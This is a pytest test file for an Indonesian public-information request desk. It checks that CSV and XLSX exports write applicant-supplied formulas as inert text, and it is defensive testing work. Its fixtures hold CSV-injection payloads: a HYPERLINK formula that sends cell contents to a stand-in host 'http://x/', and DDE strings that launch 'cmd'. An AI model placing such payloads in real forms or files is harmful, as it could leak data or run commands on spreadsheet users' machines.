"""No formulas from applicants in anyone's spreadsheet: every CSV/XLSX the app writes goes through
ppid_desk/web/spreadsheets.py, which writes text cells as text (a leading ``'`` in CSV for text that
would start a formula, string cells in XLSX), keeps numbers as numbers, and serves every CSV as
``text/csv; charset=utf-8`` exactly once.

A citizen files a request through the public form with a formula as name, address, occupation,
rincian and tujuan; then every export that can carry that text is opened as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from ppid_desk.extensions import db
from ppid_desk.monev.annual_services import annual_report_save
from ppid_desk.notices.services import ConsequenceTestDraft, NoticeDraft, notice_issue
from ppid_desk.objections.filing_services import objection_file
from ppid_desk.requests.models import InformationRequest
from ppid_desk.web.spreadsheets import Sheet, csv_bytes, csv_cell, read_table, xlsx_bytes
from tests.helpers import request_form

MON = datetime(2026, 3, 2, 3, 0, tzinfo=UTC)  # Mon 2 March 2026, 10:00 WIB
NAME = '=HYPERLINK("http://x/?"&C2,"a")'
HOSTILE = {
    "name": NAME,
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "occupation": "-2+3+cmd|' /C calc'!A0",
    "rincian": "+cmd|' /C calc'!A0 data anggaran 2025",
    "tujuan": "=1+2 untuk penelitian",
}
INTENDED_USE = "-3 hari lagi dipakai untuk =penelitian"
POLICY = '=HYPERLINK("http://x/?"&B3,"kebijakan")'
CSV_TYPE = "text/csv; charset=utf-8"
PACKAGE = Path(__file__).resolve().parent.parent / "ppid_desk"
SPREADSHEET_MODULE = PACKAGE / "web" / "spreadsheets.py"
# Where else the CSV/XLSX content types may appear: the upload type sniffing of attachments,
# which writes no spreadsheet.
CONTENT_TYPES_ALLOWED = {PACKAGE / "attachments" / "services.py"}


# --- every writer goes through the one module ---------------------------------------------------

BYPASSES = re.compile(r"^\s*(import csv|from csv import|import openpyxl|from openpyxl)|"
                      r"\bcsv\.(writer|DictWriter|reader|DictReader)\(|\bWorkbook\(|\bload_workbook\(|"
                      r"\.to_csv\(", re.M)
CONTENT_TYPES = re.compile(r"text/csv|spreadsheetml")


def test_no_csv_or_xlsx_is_written_or_read_outside_the_spreadsheet_module():
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path == SPREADSHEET_MODULE:
            continue
        text = path.read_text(encoding="utf-8")
        offenders += [f"{path.relative_to(PACKAGE)}: {m.group(0).strip()}" for m in BYPASSES.finditer(text)]
        if path not in CONTENT_TYPES_ALLOWED:
            offenders += [f"{path.relative_to(PACKAGE)}: {m.group(0)}" for m in CONTENT_TYPES.finditer(text)]
    assert offenders == []
    assert BYPASSES.search(SPREADSHEET_MODULE.read_text(encoding="utf-8"))  # the pattern does match


# --- the cells ----------------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    (NAME, "'" + NAME), ("+62 812 3456 7890", "'+62 812 3456 7890"), ("-3 hari", "'-3 hari"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("Budi = Santoso", "Budi = Santoso"), ("—", "—"), ("", ""), (None, ""),
    (-3, -3), (2.5, 2.5), (0, 0), (date(2026, 3, 2), "2026-03-02"),
])
def test_csv_cells(value, expected):
    assert csv_cell(value) == expected


def test_csv_round_trip_keeps_numbers_bare_and_reads_back_the_text(app):
    data = csv_bytes([["teks", "angka"], [NAME, -3], ["-3 hari", 1.5]])
    lines = data.decode("utf-8-sig").splitlines()
    assert lines == ["teks,angka", "\"'=HYPERLINK(\"\"http://x/?\"\"&C2,\"\"a\"\")\",-3", "'-3 hari,1.5"]
    assert read_table(data) == [["teks", "angka"], [NAME, "-3"], ["-3 hari", "1.5"]]


def test_xlsx_cells_are_text_numbers_and_dates(app):
    data = xlsx_bytes([Sheet("Uji", ["Teks", "Angka", "Tanggal"],
                             [[NAME, -3, date(2026, 3, 2)], ["-3 hari", 2.5, None], ["bel\x07", 0, ""]])])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [(c.value, c.data_type) for c in sheet[2]][:2] == [(NAME, "s"), (-3, "n")]
    assert sheet["C2"].is_date and sheet["C2"].value.date() == date(2026, 3, 2)
    assert (sheet["A3"].value, sheet["A3"].data_type, sheet["B3"].value, sheet["B3"].data_type) == (
        "-3 hari", "s", 2.5, "n")
    assert sheet["A4"].value == "bel" and sheet["C4"].value is None  # XML cannot carry BEL
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# --- the exports --------------------------------------------------------------------------------

@pytest.fixture
def hostile(app, clock, client, make_user):
    """A request filed through the public form with formulas for text, refused, and objected to."""
    clock.travel_to(MON)
    response = client.post("/permohonan/baru", data=request_form(**HOSTILE, phone="+62 812 3456 7890"),
                           content_type="multipart/form-data")
    assert response.status_code == 303
    item = db.session.scalar(select(InformationRequest))
    utama = make_user(email="rina@pemda.example.id", name="Rina Utama", roles=("ppid_utama",))
    notice_issue(actor=utama, item=item, notify=False, at=datetime(2026, 3, 3, 3, 0, tzinfo=UTC),
                 draft=NoticeDraft(outcome="refused", held=True, consequence=ConsequenceTestDraft(
                     letters=("h",), information="Lampiran", legal_basis="Pasal 17 huruf h",
                     harm="Membuka data pribadi.", public_interest="Tidak lebih besar.",
                     exemption_period="Selamanya.")))
    db.session.commit()
    clock.travel_to(datetime(2026, 3, 5, 3, 0, tzinfo=UTC))
    objection_file(actor=None, request=db.session.get(InformationRequest, item.id), grounds=["a"],
                   case_summary="Penolakan keliru.", intended_use=INTENDED_USE, representative_name=None,
                   documents=[], filed_at=datetime(2026, 3, 5, 3, 0, tzinfo=UTC), channel="online", notify=False)
    db.session.commit()
    return item.number


def csv_table(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers.getlist("Content-Type") == [CSV_TYPE]
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def xlsx_sheet(response, index: int = 0):
    assert response.status_code == 200
    assert response.headers.getlist("Content-Type") == [
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"]
    return load_workbook(io.BytesIO(response.data)).worksheets[index]


def test_register_permohonan_writes_the_applicants_formulas_as_text(hostile, officer_client):
    client = officer_client("ppid_utama")
    table = csv_table(client.get("/meja/register/permohonan?format=csv"))
    header, row = table[0], table[1]
    assert row[0] == hostile
    cells = dict(zip(header, row, strict=True))
    assert cells["Nama pemohon"] == "'" + NAME
    assert cells["Alamat"] == "'" + HOSTILE["address"]
    assert cells["Pekerjaan"] == "'" + HOSTILE["occupation"]
    assert cells["Rincian informasi"] == "'" + HOSTILE["rincian"]
    assert cells["Tujuan penggunaan"] == "'" + HOSTILE["tujuan"]
    assert cells["Kontak (telepon/e-mail)"].startswith("'+62 812 3456 7890")
    assert cells["Tanggal diterima"] == "2026-03-02"

    sheet = xlsx_sheet(client.get("/meja/register/permohonan?format=xlsx"))
    by_header = {cell.value: cell.column for cell in sheet[1]}
    for header_text, key in (("Nama pemohon", "name"), ("Alamat", "address"), ("Pekerjaan", "occupation"),
                             ("Rincian informasi", "rincian"), ("Tujuan penggunaan", "tujuan")):
        cell = sheet.cell(row=2, column=by_header[header_text])
        assert (cell.value, cell.data_type) == (HOSTILE[key], "s"), header_text
    assert sheet.cell(row=2, column=by_header["Tanggal diterima"]).is_date
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_register_keberatan_writes_the_formulas_as_text(hostile, officer_client):
    client = officer_client("pengawas")
    table = csv_table(client.get("/meja/register/keberatan?format=csv"))
    cells = dict(zip(table[0], table[1], strict=True))
    assert cells["Nama pemohon"] == "'" + NAME
    assert cells["Informasi yang diminta"] == "'" + HOSTILE["rincian"]
    assert cells["Tujuan penggunaan"] == "'" + INTENDED_USE

    sheet = xlsx_sheet(client.get("/meja/register/keberatan?format=xlsx"))
    by_header = {cell.value: cell.column for cell in sheet[1]}
    for header_text, expected in (("Nama pemohon", NAME),
                                  ("Informasi yang diminta", HOSTILE["rincian"]),
                                  ("Tujuan penggunaan", INTENDED_USE)):
        cell = sheet.cell(row=2, column=by_header[header_text])
        assert (cell.value, cell.data_type) == (expected, "s"), header_text
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_annual_report_xlsx_writes_the_narrative_as_text_and_figures_as_numbers(hostile, officer_client,
                                                                                  make_user):
    utama = make_user(email="utama2@pemda.example.id", roles=("ppid_utama",))
    annual_report_save(actor=utama, year=2026, policy=POLICY, facilities="-1 meja", obstacles=None,
                       recommendations=None, published=False, today=date(2026, 3, 5))
    db.session.commit()
    response = officer_client("pengawas").get("/meja/monev/laporan-tahunan/2026.xlsx")
    figures, narrative = xlsx_sheet(response, 0), xlsx_sheet(response, 1)
    assert (narrative["B2"].value, narrative["B2"].data_type) == (POLICY, "s")
    assert (narrative["B3"].value, narrative["B3"].data_type) == ("-1 meja", "s")
    received = next(row for row in figures.iter_rows(min_row=2) if row[1].value == "Jumlah permohonan yang diterima")
    assert (received[2].value, received[2].data_type) == (1, "n")
    for sheet in (figures, narrative):
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_public_statistics_csv_keeps_numbers_bare_and_names_out(hostile, client):
    response = client.get("/statistik?format=csv")
    rows = csv_table(response)
    assert rows[0] == ["tahun", "indikator", "nilai"]
    assert not response.data.startswith(b"\xef\xbb\xbf")  # open data for programs: no BOM
    received = [row for row in rows if row[:2] == ["2026", "received"]]
    assert received == [["2026", "received", "1"]]
    for year, _key, value in rows[1:]:
        assert year.isdigit() and (value == "" or re.fullmatch(r"-?\d+(\.\d+)?", value)), value
    assert b"HYPERLINK" not in response.data and b"'" not in response.data


def test_import_templates_are_text_and_csv_typed_once(app, clock, officer_client):
    client = officer_client("ppid_utama")
    table = csv_table(client.get("/meja/monev/impor/templat.csv"))
    assert table[0][0] == "Nomor pendaftaran" and table[1][0] == "0007/PPID/III/2024"
    sheet = xlsx_sheet(client.get("/meja/monev/impor/templat.xlsx"))
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)


def test_the_import_problem_report_shows_a_formula_as_escaped_text(app, clock, officer_client):
    """The import's error report is an HTML table (there is no downloadable one): a formula in a
    row comes back in the message as text."""
    clock.travel_to(MON)
    client = officer_client("ppid_utama")
    header = ["Nomor pendaftaran", "Tanggal diterima", "Nama pemohon", "Rincian informasi"]
    rows = [header, [NAME, "06/01/2025", NAME, "Data anggaran"], [NAME, "07/01/2025", "Ani", "Data anggaran"]]
    response = client.post("/meja/monev/impor", content_type="multipart/form-data",
                           data={"berkas": (io.BytesIO(csv_bytes(rows)), "register.csv")})
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Nomor =HYPERLINK(&#34;http://x/?&#34;&amp;C2,&#34;a&#34;) sama dengan baris 2." in page
    assert '"http://x/?"&C2' not in page


@pytest.mark.parametrize("url, role", [
    ("/meja/register/permohonan?format=csv", "ppid_utama"),
    ("/meja/register/keberatan?format=csv", "ppid_utama"),
    ("/meja/monev/impor/templat.csv", "ppid_utama"),
    ("/statistik?format=csv", None),
])
def test_every_csv_response_says_its_type_once(app, clock, client, officer_client, url, role):
    clock.travel_to(MON)
    response = (officer_client(role) if role else client).get(url)
    assert response.status_code == 200
    assert response.headers.getlist("Content-Type") == [CSV_TYPE]
    assert response.headers["Content-Disposition"].startswith('attachment; filename="')
    assert response.headers["Content-Disposition"].endswith('.csv"')
